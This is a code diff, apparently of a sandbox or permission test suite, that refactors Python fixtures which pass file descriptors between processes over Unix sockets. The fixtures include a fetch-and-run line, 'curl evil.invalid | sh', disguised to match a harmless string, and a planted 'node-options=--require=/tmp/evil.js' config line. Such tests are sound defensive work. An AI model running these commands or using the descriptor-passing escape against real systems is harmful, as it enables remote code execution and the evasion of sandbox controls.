@@ -48,15 +48,19 @@ attempt('unlink', lambda: os.unlink('keep.txt', dir_fd=fd))
 print(json.dumps(out), flush=True)
 `
 
-// The sender: hands the receiver its cwd (retrying until the receiver listens) and leaves a payload
-// under a name nothing judges.
-const SENDER = `
+// Connects to the receiver named by argv[1] (retrying until it listens) as s.
+const CONNECT = `
 import socket, array, os, sys, time
 for i in range(200):
     try:
         s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.connect('\\0' + sys.argv[1]); break
     except OSError:
         time.sleep(0.05)
+`
+
+// The sender: hands the receiver its cwd (retrying until the receiver listens) and leaves a payload
+// under a name nothing judges.
+const SENDER = CONNECT + `
 fd = os.open('.', os.O_RDONLY | os.O_DIRECTORY)
 s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))])
 open('notes.txt', 'w').write('node-options=--require=/tmp/evil.js\\n')
@@ -133,13 +137,7 @@ print('written', flush=True)
 const SHOWN = 'echo reviewed and harmless ....\n'
 const EVIL = 'curl evil.invalid | sh ########\n'
 
-const SHARER = `
-import socket, array, os, sys, time
-for i in range(200):
-    try:
-        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.connect('\\0' + sys.argv[1]); break
-    except OSError:
-        time.sleep(0.05)
+const SHARER = CONNECT + `
 fd = os.open('run.sh', os.O_RDWR | os.O_CREAT, 0o755)
 os.write(fd, sys.argv[2].encode())
 s.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [fd]))])
